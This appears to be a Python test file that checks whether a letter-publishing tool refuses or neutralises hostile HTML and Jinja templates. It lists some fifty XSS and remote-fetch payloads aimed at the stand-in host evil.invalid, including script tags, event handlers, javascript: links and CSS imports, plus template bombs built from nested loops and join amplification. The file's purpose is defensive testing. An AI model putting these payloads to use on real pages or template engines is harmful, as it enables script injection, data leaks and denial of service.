"""HTML templates that fetch, run or multiply: refused with their name, or inert in the letters."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from functools import partial

from rsa_sched.publish.letters.folder import BUNDLED
from tests.hostile.base import Case, Cases, published

PAGE = "prescripteur.html"
MARK = "evil.invalid"


def template(name: str, data: bytes, inert: tuple[bytes, ...]) -> Case:
    trial = replace(published({f"modeles/{name}": data}, "--templates", "modeles"), secrets=("zorzorzoro",))
    return Case(trial, (0, 2), lines=0, says=name, inert=inert)  # every fault of a template is told at once


def page(added: str, inert: str = MARK) -> Case:
    """The HTML letter with something added before its signature."""
    text = (BUNDLED / PAGE).read_text("utf-8")
    assert '<p class="signature">' in text
    return template(
        PAGE, text.replace('<p class="signature">', f'{added}<p class="signature">').encode(), (inert.encode(),)
    )


def whole_page(text: str, inert: str = MARK) -> Case:
    """Another HTML letter, which has the mention."""
    return template(PAGE, text.encode("utf-8", "surrogatepass"), (inert.encode(),) if inert else ())


PAGES = {
    "script": "<script>fetch('//evil.invalid')</script>",
    "script from outside": "<script src=//evil.invalid/x.js></script>",
    "script in capitals": "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "script in svg": "<svg><script href=//evil.invalid/x.js /></svg>",
    "svg of a use": "<svg><use href=//evil.invalid/x.svg#a /></svg>",
    "svg of an image": "<svg><image href=//evil.invalid/x.png /></svg>",
    "svg that loads": "<svg onload=fetch('//evil.invalid')>",
    "math": "<math><mtext href=//evil.invalid></math>",
    "frame": "<iframe src=//evil.invalid></iframe>",
    "frame of a text": "<iframe srcdoc='<p>evil.invalid</p>'></iframe>",
    "frames": "<frameset><frame src=//evil.invalid></frameset>",
    "object": "<object data=//evil.invalid></object>",
    "embed": "<embed src=//evil.invalid>",
    "applet": "<applet codebase=//evil.invalid></applet>",
    "image": "<img src=//evil.invalid/x.png alt=''>",
    "image of several sizes": "<img srcset='//evil.invalid/x.png 2x' alt=''>",
    "image by https": "<img src='https://evil.invalid/x.png' alt=''>",
    "image cut by a line": "<img\nsrc='https://evil.invalid/x.png'\nalt=''>",
    "image that fails": "<img src=x onerror=\"fetch('//evil.invalid')\">",
    "picture": "<picture><source srcset=//evil.invalid/x.webp></picture>",
    "video": "<video src=//evil.invalid autoplay></video>",
    "audio": "<audio src=//evil.invalid autoplay></audio>",
    "track": "<video><track src=//evil.invalid></video>",
    "poster": "<video poster=//evil.invalid/x.png></video>",
    "input of an image": "<input type=image src=//evil.invalid/x.png>",
    "form": "<form action=//evil.invalid><button>Oui</button></form>",
    "button": "<button formaction=//evil.invalid>Oui</button>",
    "base": "<base href=//evil.invalid/>",
    "link": "<link rel=stylesheet href=//evil.invalid/x.css>",
    "preload": "<link rel=preload as=image href=//evil.invalid/x.png>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.invalid'>",
    "style that imports": "<style>@import '//evil.invalid/x.css';</style>",
    "style of a picture": "<style>p{background:url(//evil.invalid/x.png)}</style>",
    "style of a font": "<style>@font-face{font-family:x;src:url(//evil.invalid/x.woff)}</style>",
    "style in an attribute": "<p style='background:url(//evil.invalid/x.png)'>x</p>",
    "style with escapes": "<p style='background:\\75 rl(//evil.invalid/x.png)'>x</p>",
    "background": "<table background=//evil.invalid/x.png></table>",
    "javascript": "<a href=\"javascript:fetch('//evil.invalid')\">x</a>",
    "javascript in pieces": "<a href=\"java&#10;script:fetch('//evil.invalid')\">x</a>",
    "data": "<a href='data:text/html,<p>evil.invalid'>x</a>",
    "ping": "<a href=# ping=//evil.invalid>x</a>",
    "an event": "<p onmouseover=\"fetch('//evil.invalid')\">x</p>",
    "an event behind a slash": "<p/onmouseover=\"fetch('//evil.invalid')\">x</p>",
    "details": "<details open ontoggle=\"fetch('//evil.invalid')\">x</details>",
    "template": "<template><img src=//evil.invalid></template>",
    "portal": "<portal src=//evil.invalid></portal>",
    "noscript": "<noscript><img src=//evil.invalid></noscript>",
    "a comment of old browsers": "<!--[if IE]><img src=//evil.invalid><![endif]-->",
    "a document type": "<!DOCTYPE x [<!ENTITY e SYSTEM '//evil.invalid'>]>",
    "a page within": "</article></main></body></html><script>//evil.invalid</script>",
    "an instruction": "<?xml-stylesheet href='//evil.invalid/x.xsl'?>",
    "an attribute of a field": "<img src='//evil.invalid/{{ destinataire.nom }}'>",
    "a tag of fields": "<{{ 'script' }} src=//evil.invalid></{{ 'script' }}>",
    "an attribute cut in two": "<img s{{ '' }}rc=//evil.invalid/x.png>",
}
_ROWS = "{% for r in rendez_vous %}{% for a in ajournements %}"
MULTIPLIED = {
    "join over a text": "{{ mention|join(mention) }}",
    "join over joined": "{{ mention|join(mention)|join(mention)|join(mention) }}",
    "join in a loop": "{% for r in rendez_vous %}{{ mention|join(mention) }}{% endfor %}",
    "join of a list": "{{ rendez_vous|join(mention) }}",
    "a long constant joined": "{{ mention|join('" + "x" * 100_000 + "') }}",
    "a constant in a loop": "{% for r in rendez_vous %}" + "x" * 400_000 + "{% endfor %}",
    "a loop in a loop over the same": "{% for r in rendez_vous %}{% for s in rendez_vous %}"
    + "x" * 100_000 + "{% endfor %}{% endfor %}",
    "a loop in a loop": f"{_ROWS}{'x' * 100_000}{{% endfor %}}{{% endfor %}}",
    "a thousand loops": "{% for r in rendez_vous %}{{ mention }}{% endfor %}" * 1_000,
    "added texts": "{{ " + " ~ ".join(["mention"] * 10_000) + " }}",
    "a thousand conditions": "{% if mention %}" * 1_000 + "{% endif %}" * 1_000,
    "a thousand brackets": "{{ " + "(" * 1_000 + "mention" + ")" * 1_000 + " }}",
    "a thousand filters": "{{ mention" + "|upper" * 5_000 + " }}",
    "a thousand nots": "{% if " + "not " * 5_000 + "mention %}{% endif %}",
    "a number of 10000 figures": "{{ " + "9" * 10_000 + " }}",
    "opened 400000 times": "{{" * 200_000,
    "comments opened": "{#" * 200_000,
    "blanks in a tag": "{{" + " " * 400_000 + "mention }}",
    "raw": "{% raw %}" + "{{" * 1_000 + "{% endraw %}",
}  # fmt: skip


JOINED = ("join over a text", "join over joined", "join in a loop", "a long constant joined")
"""Those of `MULTIPLIED` that put a text between the letters of a text: refused, whatever comes of them."""


def multiplied(kind: Callable[[str], Case], name: str) -> Case:
    return replace(kind(MULTIPLIED[name]), codes=(2,) if name in JOINED else (0, 2), inert=())


def page_cases() -> Cases:
    """Templates of HTML and text."""
    mention = "{{ mention }}"
    return {
        **{f"page: {name}": partial(page, added) for name, added in PAGES.items()},
        **{f"page: {name}": partial(multiplied, page, name) for name in MULTIPLIED},
        "page: nothing but the mention": lambda: whole_page(mention),
        "page: NULs": lambda: whole_page("\0" * 1_000 + mention, "\0"),
        "page: turned": lambda: whole_page("\u202e" + mention, "\u202e"),
        "page: half a pair": lambda: whole_page("\ud800" + mention, ""),
        "page: tags never closed": lambda: whole_page("<b>" * 50_000 + mention, ""),
        "page: deep": lambda: whole_page("<div>" * 20_000 + mention + "</div>" * 20_000, ""),
        "page: mark of the frame": lambda: whole_page("<!-- courriers -->" * 100 + mention, ""),
        "page: a mention that is a script": lambda: _mention("<script>//evil.invalid</script>"),
        "page: a mention of blanks": lambda: replace(_mention("\u200b\u2060\u00ad" * 10), codes=(2,)),
        "page: a mention that multiplies": lambda: _mention("{{ expediteur.nom|join(expediteur.nom) }}" * 1_000),
    }


def _mention(text: str) -> Case:
    return template("mention.txt", text.encode(), (b"<script>//",))
